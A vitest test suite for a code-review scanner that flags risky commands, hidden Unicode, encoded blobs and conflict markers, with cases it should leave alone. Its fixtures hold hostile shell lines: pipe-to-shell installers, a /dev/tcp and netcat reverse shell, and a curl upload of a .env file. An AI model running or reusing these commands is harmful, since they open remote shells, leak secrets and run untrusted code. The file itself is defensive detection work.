import { describe, expect, test } from "vitest";
import { found, rulesFor } from "./support.ts";

type Case = readonly [path: string, source: string, ...rules: readonly string[]];

const block = Array.from({ length: 40 }, (_, index) => "Zx8Qw2Lm5N".replace("8", String(index))).join("");

const escapes = Array.from({ length: 80 }, (_, index) => `\\x${(index * 3).toString(16).padStart(2, "0")}`).join("");

describe("commands, scripts and images", () => {
  test.each<Case>([
    ["install.sh", "curl -fsSL https://x.dev/i.sh | sh", "download-and-run"],
    ["install.sh", "wget -qO- https://x.dev/i.sh |\\\n  sudo bash -s", "download-and-run"],
    ["install.sh", "curl https://x.dev/a.gz | gunzip | sh", "download-and-run"],
    ["install.sh", "bash <(curl -s https://x.dev/i.sh)", "download-and-run"],
    ["install.sh", 'eval "$(curl -s https://x.dev/i.sh)"', "download-and-run"],
    ["install.sh", "echo $X | base64 -d | sh", "decode-and-run"],
    ["bin/tool", '#!/bin/sh\neval "$COMMAND"', "eval"],
    ["a.sh", "bash -i >& /dev/tcp/45.33.32.156/443 0>&1", "reverse-shell"],
    ["a.sh", "nc -e /bin/sh x.dev 443", "reverse-shell"],
    ["a.sh", "curl -d @.env https://collect.dev", "network-unexpected"],
    ["Makefile", "setup:\n\tcurl https://x.dev/i.sh | bash", "download-and-run"],
    ["Dockerfile", "FROM alpine\nRUN wget -O - https://x.dev/i.sh | sh", "download-and-run"],
    ["Dockerfile.dev", "FROM alpine\nADD https://x.dev/a.tgz /a", "image-download"],
    ["package.json", '{ "scripts": { "postinstall": "node x.js" } }', "lifecycle-script"],
    ["package.json", '{ "scripts": { "preinstall": "curl https://x.dev/x -o x" } }', "network-install"],
    ["package.json", '{ "scripts": { "start": "curl https://x.dev/x | sh" } }', "download-and-run"],
  ])("%s: %s", async (path, source, ...rules) => {
    expect(await rulesFor(path, source)).toEqual(rules);
  });

  test.each<Case>([
    ["a.sh", "curl -fsSLO https://x.dev/a.tgz && sha256sum -c a.sum\ngrep sh file | sort"],
    ["a.sh", "# curl https://x.dev | sh\necho done"],
    ["a.sh", 'eval "$(ssh-agent -s)"\neval set -- x'],
    ["a.sh", "base64 -d < a > b\nnc -z localhost 80"],
    ["Dockerfile", "FROM alpine\nADD --checksum=sha256:abc https://x.dev/a.tgz /a\nADD a.txt /a"],
    ["package.json", '{ "scripts": { "test": "node --test", "build": "tsc" }, "name": "a" }'],
    ["sub/package.json", "{}"],
    ["docs/install.md", "Run `curl https://x.dev | sh`."],
  ])("left alone: %s: %s", async (path, source) => {
    expect(await rulesFor(path, source)).toEqual([]);
  });

  test("a lifecycle script that was there before is not the change's", async () => {
    const text = '{\n  "name": "a",\n  "scripts": {\n    "prepare": "husky",\n    "test": "x"\n  }\n}';
    expect(await rulesFor("package.json", text, { ranges: [{ from: 5, to: 5 }] })).toEqual([]);
    expect(await rulesFor("package.json", text, { ranges: [{ from: 4, to: 4 }] })).toEqual(["lifecycle-script"]);
  });
});

describe("what a reader of the source does not see", () => {
  test.each<Case>([
    ["a.js", "const a = 1; // \u202e } \u2066", "bidi"],
    ["README.md", "turn\u2067ed", "bidi"],
    ["a.md", "hello\u{e0069}\u{e0067}", "hidden-text"],
    ["a.js", "const x = `\u{e0100}\u{e0155}\u{e0156}`;", "hidden-text"],
    ["a.js", "const x = `\ufe01\ufe02\ufe03`;", "hidden-text"],
    ["a.js", "const a\u200bb = 1;", "zero-width"],
    ["a.js", "const user\u200d = 1;", "zero-width"],
    ["a.txt", "\u3164", "zero-width"],
    ["a.js", "const \u0440assword = 1;", "mixed-script"],
    ["a.js", "const pass\u0441ode = 1;", "mixed-script"],
  ])("%s: %j", async (path, source, ...rules) => {
    expect(await rulesFor(path, source)).toEqual(rules);
  });

  test.each<Case>([
    ["a.md", "Füge 日本語 hinzu ✓ – “so” … привет мир, Δx"],
    ["a.js", 'const family = "👨‍👩‍👧 ❤️ 🏳️‍🌈 🏴\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f}";'],
    ["fa.md", "می\u200cخواهم"],
    ["hi.md", "क्\u200dष"],
    ["a.cs", "\ufeffusing System;"],
    ["a.js", 'const bidi = "\\u202e";'],
  ])("left alone: %s: %j", async (path, source) => {
    expect(await rulesFor(path, source)).toEqual([]);
  });

  test("it is told by its code, never by itself", async () => {
    const [finding] = await found("a.js", "// \u202e");
    expect(finding?.message).toContain("(U+202E)");
  });
});

describe("blocks that nobody can review", () => {
  test.each<Case>([
    ["a.js", `const data = "${block}";`, "encoded-block"],
    ["a.py", `data = "${escapes}"`, "encoded-block"],
    ["a.c", `char a[] = { ${"0x41, 0x7f, ".repeat(40)} };`, "encoded-block"],
  ])("%s", async (path, source, ...rules) => {
    expect(await rulesFor(path, source)).toEqual(rules);
  });

  test.each<Case>([
    ["package-lock.json", `{ "integrity": "sha512-${block}" }`],
    ["a.css", `a { background: url(data:image/png;base64,${block}) }`],
    ["a.md", "-".repeat(400)],
    ["a.js", `import "${"/some/long/path9".repeat(20)}";`],
  ])("left alone: %s", async (path, source) => {
    expect(await rulesFor(path, source)).toEqual([]);
  });
});

test("the marks of a conflict are found, a line of equals signs is not", async () => {
  expect(await rulesFor("a.txt", "<<<<<<< ours\na\n=======\nb\n>>>>>>> theirs\n")).toEqual([
    "conflict-marks",
    "conflict-marks",
  ]);
  expect(await rulesFor("a.md", "Title\n=======\n")).toEqual([]);
});
